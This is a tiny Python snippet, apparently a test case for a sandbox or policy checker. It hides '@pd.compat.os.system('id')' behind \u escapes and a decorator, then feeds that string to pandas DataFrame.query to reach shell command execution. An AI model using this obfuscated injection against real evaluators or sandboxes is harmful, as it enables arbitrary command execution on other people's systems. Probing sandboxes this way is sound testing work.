# policy: plot, data
# what a decorator gives is no function
import json
import pandas as pd
@lambda f: json.loads('"\\u0040\\u0070\\u0064\\u002e\\u0063\\u006f\\u006d\\u0070\\u0061\\u0074\\u002e\\u006f\\u0073\\u002e\\u0073\\u0079\\u0073\\u0074\\u0065\\u006d\\u0028\\u0027\\u0069\\u0064\\u0027\\u0029"')
def q():
    pass
pd.DataFrame({'a': [1]}).query(q)  # expect: evaluated-text
